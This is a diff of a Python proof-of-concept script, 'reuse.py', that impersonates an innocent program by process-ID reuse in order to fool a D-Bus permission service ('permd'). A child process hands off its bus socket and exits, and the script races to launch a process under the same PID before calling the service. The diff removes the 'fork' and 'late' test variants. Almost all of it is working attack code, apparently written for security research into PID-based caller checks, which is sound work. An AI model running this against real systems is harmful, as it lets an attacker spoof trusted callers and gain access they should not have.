@@ -1,14 +1,10 @@
 # Impersonates an innocent program by process ID reuse. Run as root, or through sudo by the user of the bus.
 #
-#     reuse.py SOCKET [fork]
+#     reuse.py SOCKET
 #
 # A child connects to the bus at SOCKET, passes the socket to this program and exits; an innocent program is started
 # with the child's process ID. This program then calls permd over the socket, as settings programs do. It prints the
-# result, "ok" or the error's name, for a child that is alive; for one that exited after Hello; and for one that exited
-# before Hello, which is then sent while the innocent program runs, first without and then with a bus connection of its
-# own.
-#
-# With "fork", this program calls permd on a second connection, after closing a first one that its child still has open.
+# result, "ok" or the error's name, for a child that is alive and for one that has exited.
 import array, ctypes, errno, os, re, signal, socket, struct, sys, time
 
 PATH = sys.argv[1]
@@ -76,25 +72,23 @@ def log_in(bus):
     answer(bus, 1)
 
 
-def ask(bus, sent=lambda: None):
+def ask(bus):
     bus.sendall(call(2, "org.permd", "/org/permd", "org.permd.Policy1", "ListRequests"))
-    sent()
     kind, rest = answer(bus, 2)
     return "ok" if kind == 2 else re.search(rb"org\.\w+(?:\.\w+)*\.(\w+)", rest[rest.find(b"\4\1s\0"):]).group(1).decode()
 
 
-def connect_and_hand_over(lives, late=False):
+def connect_and_hand_over(lives):
     ours, theirs = socket.socketpair()
     child = os.fork()
     if child == 0:
         become_user()
         bus = connect()
-        if not late:
-            log_in(bus)
-            # When permd answers another connection, it has heard of the first.
-            beside = connect()
-            log_in(beside)
-            ask(beside)
+        log_in(bus)
+        # When permd answers another connection, it has heard of the first.
+        beside = connect()
+        log_in(beside)
+        ask(beside)
         theirs.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [bus.fileno()]))])
         if lives:
             theirs.recv(1)
@@ -121,7 +115,7 @@ def fork_as(number):
     return os.fork()
 
 
-def start_innocent(number, connects, stolen):
+def start_innocent(number, stolen):
     ours, theirs = socket.socketpair()
     innocent = fork_as(number)
     if innocent < 0:
@@ -129,13 +123,8 @@ def start_innocent(number, connects, stolen):
     if innocent == 0:
         stolen.close()
         become_user()
-        if connects:
-            bus = connect()
-            log_in(bus)
-            theirs.send(b"x")
-            signal.pause()
         os.execvp("sleep", ["sleep", "1000"])
-    # It is connected, or execve(2) has closed its end.
+    # execve(2) has closed its end.
     theirs.close()
     ours.recv(1)
     return innocent
@@ -145,21 +134,19 @@ def tick():
     return int(time.clock_gettime(time.CLOCK_BOOTTIME) * os.sysconf("SC_CLK_TCK"))
 
 
-def reuse(late, connects):
+def reuse():
     # Another process may be assigned the ID first.
     for attempt in range(100):
-        child, bus, ours = connect_and_hand_over(False, late)
+        child, bus, ours = connect_and_hand_over(False)
         # The kernel counts starts in ticks. An attacker without root has to wait until all other IDs were assigned, which
         # takes longer than one.
         now = tick()
         while tick() == now:
             pass
-        innocent = start_innocent(child, connects, bus)
+        innocent = start_innocent(child, bus)
         if innocent < 0:
             continue
         if innocent == child:
-            if late:
-                log_in(bus)
             result = ask(bus)
         os.kill(innocent, signal.SIGKILL)
         os.waitpid(innocent, 0)
@@ -168,28 +155,9 @@ def reuse(late, connects):
     sys.exit("the process ID could not be reused")
 
 
-def ask_beside_a_child():
-    first = connect()
-    log_in(first)
-    ours, theirs = socket.socketpair()
-    if os.fork() == 0:
-        theirs.recv(1)
-        os._exit(0)
-    first.close()
-    second = connect()
-    log_in(second)
-    return ask(second, sent=lambda: ours.send(b"x"))
-
-
-if sys.argv[2:] == ["fork"]:
-    print("forked:", ask_beside_a_child(), flush=True)
-    os.wait()
-    sys.exit()
 child, bus, ours = connect_and_hand_over(True)
 print("living:", ask(bus), flush=True)
 ours.send(b"x")
 os.waitpid(child, 0)
 bus.close()
-print("reused:", reuse(late=False, connects=False), flush=True)
-print("late:", reuse(late=True, connects=False), flush=True)
-print("late, beside a connection:", reuse(late=True, connects=True), flush=True)
+print("reused:", reuse(), flush=True)
